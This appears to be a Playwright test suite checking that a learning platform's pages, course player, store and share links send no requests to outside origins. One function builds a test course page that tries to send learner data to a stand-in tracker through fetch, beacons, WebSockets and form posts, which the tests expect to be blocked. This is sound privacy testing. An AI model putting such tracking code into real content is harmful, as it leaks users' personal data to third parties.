import { expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
import { scoPage } from '../test/scorm-packages.js';
import { sentTo } from '../test/smtp-server.js';
import { expectAccessible } from './accessibility.js';
import { inviteAndEnrol } from './enrol-learner-helper.js';
import { serverWithMailForThisFile } from './mail-server-helper.js';
import { RequestRecorder, startThirdParty, type ThirdParty } from './outbound-requests-helper.js';
import { importPackage, oneScoPackage } from './package-import-helper.js';
import { signIn } from './sign-in-helper.js';
import { onePagePdf, sharePublicly, uploadToSpace } from './space-helper.js';

// No personal data to third parties: whatever a learner, an administrator, a buyer in the store
// and a reviewer on a Space link do, their browsers talk to the server's own origins only (the
// app's and the content origin's). Every request of each browser context is recorded (pages,
// frames, the course in the player, service workers, WebSockets); one to any other origin fails
// the test, listed. The course the learner plays tries hard to reach a third party (a stand-in
// server that counts what reaches it): its content security policy stops every attempt, nothing
// arrives, and the import told the administrator which site the package tries to reach.

const running = serverWithMailForThisFile();
const COURSE = 'Ladder safety with a tracker';
const LEARNER = { email: 'lotte@example.com', firstName: 'Lotte', lastName: 'Lindgren', password: 'Quiet-Harbour-2031' };
const GUEST = 'greta.guest@example.com';

let tracker: ThirdParty;

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  tracker = await startThirdParty();
});
test.afterAll(async () => {
  await tracker.close();
});

/**
 * The SCO of the course: the usual buttons, plus every way a page reaches another site (hints to
 * connect early or fetch ahead, a style, a font, a script, an image, a frame, fetch, a beacon, a
 * WebSocket, a form). It lists what the
 * browser's content security policy refused (`securitypolicyviolation`): directive and address.
 */
function trackingSco(origin: string): string {
  const host = origin.replace(/^https:/, '');
  const watch = `<meta charset="utf-8">
<script>
  var refused = {};
  document.addEventListener('securitypolicyviolation', function (event) {
    refused[event.effectiveDirective + ' ' + event.blockedURI] = true;
    var list = document.getElementById('refused');
    if (list) list.textContent = Object.keys(refused).sort().join('\\n');
  });
</script>`;
  const head = `<link rel="preconnect" href="${origin}">
<link rel="dns-prefetch" href="${origin}">
<link rel="prefetch" href="${origin}/prefetch.js">
<link rel="preload" as="image" href="${origin}/preload.png">
<link rel="stylesheet" href="${origin}/style.css">
<script src="${host}/script.js"></script>
<style>@font-face { font-family: Tracked; src: url(${origin}/font.woff2); } body { font-family: Tracked, sans-serif; }</style>
</head>`;
  const body = `<h2>Refused by the policy</h2><pre id="refused"></pre>
<img src="${origin}/pixel.gif" alt="">
<iframe src="${origin}/frame.html" title="Advertisement"></iframe>
<form id="leak" method="post" action="${origin}/form" target="leak-sink"><input name="who" value="learner" aria-label="Who"></form>
<iframe name="leak-sink" title="Form answer"></iframe>
<script>
  document.getElementById('refused').textContent = Object.keys(refused).sort().join('\\n');
  try { fetch('${origin}/fetch', { method: 'POST', body: 'who=learner' }).catch(function () {}); } catch (e) {}
  try { navigator.sendBeacon('${origin}/beacon', 'who=learner'); } catch (e) {}
  try { new WebSocket('wss://${host.slice(2)}/socket'); } catch (e) {}
  try { document.getElementById('leak').submit(); } catch (e) {}
</script>
</body>`;
  return scoPage('1.2', 'Lesson 1').replace('<meta charset="utf-8">', watch).replace('</head>', head).replace('</body>', body);
}

/** A browser context whose every request is recorded from the start. */
async function recordedContext(browser: Browser, locale = 'en-GB'): Promise<{ context: BrowserContext; page: Page; recorder: RequestRecorder }> {
  const recorder = new RequestRecorder(running.server);
  const context = recorder.watch(await browser.newContext({ ignoreHTTPSErrors: true, locale }));
  return { context, page: await context.newPage(), recorder };
}

/** Closes the context (pending requests end) and fails on any request that left the server's origins, listing them. */
async function expectNothingLeft(context: BrowserContext, recorder: RequestRecorder): Promise<void> {
  await context.close();
  expect(recorder.ownCount(), 'the journey made requests to the server').toBeGreaterThan(3);
  expect(recorder.leaks(), "requests to origins other than the server's").toEqual([]);
}

test('an administrator signs in, manages users, imports a course (told which site it tries to reach), and opens reports and settings', async ({ browser }) => {
  const { server } = running;
  const { context, page, recorder } = await recordedContext(browser);
  await signIn(page, server.url, server.adminEmail, server.adminPassword);

  await page.getByRole('navigation', { name: 'Main navigation' }).getByRole('link', { name: 'Users' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.getByRole('table').first()).toContainText(server.adminEmail);

  await importPackage(page, await oneScoPackage(COURSE, trackingSco(tracker.origin)), COURSE);
  const versions = page.getByRole('table', { name: /Uploaded versions/ });
  await expect(versions).toContainText('this site does not allow');
  await expect(versions).toContainText(tracker.origin);
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Publish' }).click();
  await expect(page.getByText('The course is published.')).toBeVisible();
  await inviteAndEnrol(page, server.url, running.smtp, LEARNER, COURSE);

  for (const path of ['/reports', '/settings', '/space', '/market']) {
    await page.goto(`${server.url}${path}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  await expectNothingLeft(context, recorder);
});

test('a learner signs in, opens the catalogue and plays the course to the end; its attempts to reach another site are blocked', async ({ browser }) => {
  const { server } = running;
  const { context, page, recorder } = await recordedContext(browser);
  await signIn(page, server.url, LEARNER.email, LEARNER.password);
  await page.getByRole('navigation', { name: 'Main navigation' }).getByRole('link', { name: 'My courses' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.getByRole('link', { name: `Start ${COURSE}` }).click();
  const sco = page.frameLocator('iframe[title^="Course content"]').frameLocator('iframe');
  await expect(sco.getByRole('heading', { name: 'Lesson 1' })).toBeVisible();
  // The course tried every way; the browser refused each under the content origin's policy.
  const refused = sco.locator('#refused');
  for (const directive of ['style-src-elem', 'script-src-elem', 'font-src', 'img-src', 'frame-src', 'connect-src', 'form-action']) {
    await expect(refused).toContainText(new RegExp(`^${directive} ${tracker.origin}`, 'm'));
  }
  await sco.getByRole('button', { name: 'Pass with 90' }).click();
  await sco.getByRole('button', { name: 'Commit' }).click();
  await expect(page.getByText('All progress saved')).toBeVisible();
  await sco.getByRole('button', { name: 'Finish' }).click();
  await page.getByRole('button', { name: 'Exit' }).click();
  await expect(page.getByRole('heading', { name: /^Welcome/ })).toBeVisible();
  await page.getByRole('navigation', { name: 'Main navigation' }).getByRole('link', { name: 'My courses' }).click();
  await expect(page.getByRole('region', { name: 'Completed (1)' }).getByRole('article', { name: COURSE })).toBeVisible();

  await expectNothingLeft(context, recorder);
  // And no request arrived at the third party. (Chromium may still open a connection to the host of
  // a refused frame or form navigation before refusing it: docs/security.md, "What leaves the server".)
  expect(tracker.hits).toEqual([]);
});

test('a buyer browses the store, opens a product and checks out by bank transfer', async ({ browser }) => {
  const { server } = running;
  const admin = await browser.newContext({ ignoreHTTPSErrors: true });
  const adminPage = await admin.newPage();
  await signIn(adminPage, server.url, server.adminEmail, server.adminPassword);
  const request = adminPage.request;
  const courses = (await (await request.get(`${server.url}/api/learn/courses?q=${encodeURIComponent(COURSE)}`)).json()) as { courses: { id: string }[] };
  const settings = await request.patch(`${server.url}/api/admin/settings`, {
    data: { market: { open: true, sellerName: 'Demo Academy GmbH', sellerCountry: 'DE', bankTransfer: { enabled: true, accountHolder: 'Demo Academy GmbH', iban: 'DE89370400440532013000', bic: 'COBADEFFXXX' } } },
  });
  expect(settings.status(), await settings.text()).toBe(200);
  const product = await request.post(`${server.url}/api/market/products`, {
    data: { kind: 'course', status: 'published', courseIds: [courses.courses[0]!.id], slug: 'ladder-safety', title: 'Ladder safety at work', summary: 'Up and down safely.', language: 'en', prices: [{ currency: 'EUR', amountMinor: 4900 }] },
  });
  expect(product.status(), await product.text()).toBe(201);
  await admin.close();

  const { context, page, recorder } = await recordedContext(browser);
  await page.goto(`${server.url}/store`);
  await page.getByRole('link', { name: 'Ladder safety at work' }).click();
  await expect(page.getByRole('heading', { name: 'Ladder safety at work', level: 1 })).toBeVisible();
  await page.getByRole('link', { name: 'Buy now' }).click();
  await expect(page.getByRole('heading', { name: 'Checkout', level: 1 })).toBeVisible();
  await page.getByLabel('First name').fill('Ada');
  await page.getByLabel('Last name').fill('Lovelace');
  await page.getByLabel('E-mail address').fill('ada@example.com');
  await page.getByLabel('Country', { exact: true }).selectOption('DE');
  await page.getByLabel('Billing address').fill('Hauptstraße 1\n10115 Berlin');
  await page.getByRole('radio', { name: 'Bank transfer (you receive the bank details)' }).check();
  await page.getByRole('button', { name: 'Buy now' }).click();
  await expect(page).toHaveURL(/\/store\/orders\/[0-9a-f-]{36}$/);
  await expect(page.locator('.status')).toContainText('We are waiting for your bank transfer');
  await expectNothingLeft(context, recorder);
});

test('a guest reviewer comments on a file through the mailed link, and a visitor opens a public share link', async ({ browser }) => {
  const { server, smtp } = running;
  const admin = await browser.newContext({ ignoreHTTPSErrors: true });
  const adminPage = await admin.newPage();
  await signIn(adminPage, server.url, server.adminEmail, server.adminPassword);
  const name = 'Ladder handbook.pdf';
  const itemId = await uploadToSpace(adminPage.request, server.url, name, onePagePdf());
  const asked = await adminPage.request.post(`${server.url}/api/space/items/${itemId}/review-requests`, {
    data: { guests: [{ email: GUEST }], dueAt: new Date(Date.now() + 7 * 86_400_000).toISOString() },
  });
  expect(asked.status(), await asked.text()).toBe(201);
  const share = await sharePublicly(adminPage.request, server.url, itemId);
  await admin.close();
  const mail = await smtp.waitForMail((m) => sentTo(GUEST)(m) && m.subject.includes(name), 20_000);
  const reviewLink = /https?:\/\/\S+\/r\/[\w-]+/.exec(mail.text)![0];

  const { context, page, recorder } = await recordedContext(browser);
  await page.goto(reviewLink);
  await expect(page.getByRole('heading', { level: 1, name: `Review: ${name}` })).toBeVisible();
  await page.getByLabel('Comment').fill('The ladder on page 1 has no feet.');
  await page.getByLabel('Page (optional)').fill('1');
  await page.getByRole('button', { name: 'Add comment' }).click();
  await expect(page.getByText('The ladder on page 1 has no feet.')).toBeVisible();
  await page.getByRole('button', { name: 'My review is done' }).click();
  await expect(page.getByRole('status')).toContainText('You said your review was done');

  const visitor = await context.newPage();
  await visitor.goto(share.url);
  await expect(visitor.getByRole('heading', { level: 1, name })).toBeVisible();
  await expectNothingLeft(context, recorder);
});

test('the recorder lists a request to another origin made from an app page', async ({ browser }) => {
  const { server } = running;
  const { context, page, recorder } = await recordedContext(browser);
  await page.goto(`${server.url}/sign-in`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  // The app's own policy stops a stray picture or script before any request; a page that sends
  // the browser elsewhere is not stopped by it, and the recorder lists that request.
  await page.evaluate((origin) => window.location.assign(`${origin}/landing`), tracker.origin);
  await expect.poll(() => recorder.leaks()).toEqual([expect.stringContaining(`document ${tracker.origin}/landing`)]);
  await context.close();
});
